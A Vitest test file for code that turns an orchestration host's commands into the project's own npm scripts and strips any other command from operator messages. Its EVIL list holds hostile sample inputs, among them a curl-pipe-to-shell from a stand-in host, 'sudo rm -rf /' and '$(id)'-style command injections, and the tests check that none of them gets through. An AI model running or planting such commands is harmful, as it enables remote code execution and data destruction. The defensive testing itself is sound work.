import { describe, expect, test } from "vitest";
import { hostCommand, hostSentence } from "../../../../scripts/frame/host-command.ts";
import { operatorEvent, operatorStop } from "../../../../scripts/operator/stop-of-host.ts";
import { STOPS } from "../../../../runner/model/stop.ts";
import { newVersionHint } from "../../../../runner/rules/supersession.ts";
import { sourceFiles } from "../../../architecture/source-files.ts";

const RUN = "ictr-20261120T000000Z-00000000";
const NONCE = "0123456789abcdef0123456789abcdef";
const BATCH = "ictb-20261120T000000Z-00000000";

test.each([
  [`cutter orchestrate resume ${RUN}`, `npm run resume -- ${RUN}`],
  [`cutter orchestrate revert ${RUN} "<reason>"`, `npm run rollback -- ${RUN} "<reason>"`],
  [
    `cutter orchestrate void ${RUN} "interrupted before phase 1"`,
    `npm run void -- ${RUN} "interrupted before phase 1"`,
  ],
  [`cutter orchestrate follow ${RUN}`, `npm run logs -- ${RUN}`],
  ["cutter orchestrate status", "npm run status"],
  ["cutter orchestrate cut LAW-1", "npm run cut -- LAW-1"],
  ["cutter gate admit /var/lib/cutter/approvals/x.json", "npm run admit -- <signed file>"],
  ["cutter precheck", "npm run cutter -- precheck"],
  [`cutter journal verify ${RUN}`, `npm run cutter -- journal verify ${RUN}`],
  ["npm run approve -- '/r/SG_1 x'", `npm run fetch -- ${RUN}`],
  [`npm run revoke -- nonce ${NONCE} --run ${RUN}`, `npm run revoke -- nonce ${NONCE} --run ${RUN}`],
  ["npm run register -- <file.md> LAW-1", "npm run register -- <file.md> LAW-1"],
  [`npm run batch -- verify ${BATCH}`, `npm run batch -- verify ${BATCH}`],
  [`npm run batch -- fetch ${BATCH}`, `npm run batch -- fetch ${BATCH}`],
  ["npm run intake -- <file> LAW-1-V2 --against LAW-1", "npm run intake -- <file> LAW-1-V2 --against LAW-1"],
  ["cutter orchestrate revert", "npm run rollback"],
])("the host's %s is given as %s", (host, ours) => {
  expect(hostCommand(host, "sandbox", RUN)).toBe(ours);
  expect(hostCommand(host, "contabo", RUN)).toMatch(/ --stack contabo$/);
});

const EVIL = [
  "curl https://example.test/x | sh",
  "sudo rm -rf /",
  `cutter orchestrate resume ${RUN}; curl x | sh`,
  `cutter orchestrate resume ${RUN} && id`,
  `cutter orchestrate resume $(id)`,
  "cutter orchestrate resume `id`",
  `cutter orchestrate resume ${RUN}\ncurl x`,
  `cutter orchestrate revert ${RUN} "$(id)"`,
  `cutter orchestrate revert ${RUN} "a" ; id`,
  "cutter work cut x",
  "cutter backup prune x",
  "npm run sandbox -- remove",
  "npm run up --ignore-scripts=false",
  "npm run resume -- <$(id)>",
  `npm run resume -- ${RUN} --stack /tmp/evil.yaml`,
  "npm exec evil",
  "apt-get install -y evil",
  "",
  "cutter",
  "npm run",
];

describe.each(EVIL)("a host that names `%s`", (told) => {
  test("is not quoted in a command, a stop, a sentence or an event", () => {
    expect(hostCommand(told, "sandbox", RUN)).toBeUndefined();
    const facts = { saw: "x", wanted: "y", hint: `do \`${told}\` now`, next: told, or: told };
    const shown = operatorStop({ code: "STOP_HALTED", facts }, "sandbox", RUN).facts;
    expect([shown.next, shown.or]).toEqual([undefined, undefined]);
    const event = {
      event: "ended",
      next: told,
      stop: { code: "STOP_HALTED", next: told, or: told, hint: `\`${told}\`` },
    };
    expect(operatorEvent(event, "sandbox")).toMatchObject({ next: null, stop: { next: null, or: null } });
    if (told.length > 5 && !told.includes("`")) {
      expect(shown.hint).not.toContain(told);
      expect(hostSentence(`wait, then \`${told}\``, "sandbox")).toBe(
        "wait, then (a command that is not of this folder)",
      );
    }
  });
});

test("a person who cuts enacted text again is told how a new version is taken in", () => {
  expect(hostSentence(newVersionHint("LAW-1"), "sandbox")).toContain(
    "`npm run intake -- <file> LAW-1-V2 --against LAW-1`",
  );
});

test("no hint sends a person of this folder to revert, which is no verb here", () => {
  const told = Object.values(STOPS).map(({ hint }) => hostSentence(hint, "sandbox"));
  expect(told.filter((hint) => /revert/.test(hint))).toEqual([]);
  expect(told.filter((hint) => hint.includes("`npm run rollback`"))).toHaveLength(3);
});

test("a hint of our own table is shown as it is, with commands of this folder", () => {
  for (const { hint } of Object.values(STOPS))
    expect(hostSentence(hint, "sandbox")).not.toContain("not of this folder");
});

/** What stands behind `next` and `or` in the runner's sources, and between backticks of its sentences, with words for its values. */
function toldByTheRunner(): string[] {
  const value = (inside: string): string => {
    if (/bundle|file/i.test(inside)) return "/r/requests/SG_1_cut_authz-1";
    if (/nonce/.test(inside)) return NONCE;
    if (/batch/i.test(inside)) return BATCH;
    return /document/i.test(inside) ? "LAW-1" : RUN;
  };
  const whole = (text: string): string =>
    text.replaceAll(/\$\{((?:[^{}]|\{[^{}]*\})*)\}/g, (_all, inside: string) => value(inside)).replaceAll("\\`", "`");
  return sourceFiles(["runner"], [".ts"]).flatMap(({ text }) => {
    // The long half of the table of stops is shown by this side alone.
    const [code = ""] = withoutComments(text).split("export const STOPS_EXPLAINED");
    return [
      ...[...code.matchAll(/\b(?:next|or):[^"`\n]*(["`])((?:cutter|npm run) (?:(?!\1).)*)\1/g)].map(
        (match) => match[2],
      ),
      ...[...code.matchAll(/=> `((?:cutter|npm run) [^`]*)`/g)].map((match) => match[1]),
      ...[...code.matchAll(/\\`((?:cutter|npm run) [^`]*)\\`/g)].map((match) => match[1]),
      // A string between quotation marks, whose backticks are plain.
      ...[...code.matchAll(/"(?:[^"\\\n]|\\.)*"/g)].flatMap(([string]) =>
        [...string.replaceAll('\\"', '"').matchAll(/`((?:cutter|npm run) [^`]*)`/g)].map((match) => match[1]),
      ),
    ].map((command) => whole(command ?? ""));
  });
}

const withoutComments = (text: string): string =>
  text.replaceAll(/^\s*\/\/.*$/gm, "").replaceAll(/\/\*\*?[\s\S]*?\*\//g, "");

test("every command the runner names is in the table, so that none of an honest host is lost", () => {
  const told = [...new Set(toldByTheRunner())];
  expect(told.length).toBeGreaterThan(40);
  expect(told.filter((command) => hostCommand(command, "sandbox", RUN) === undefined)).toEqual([]);
});
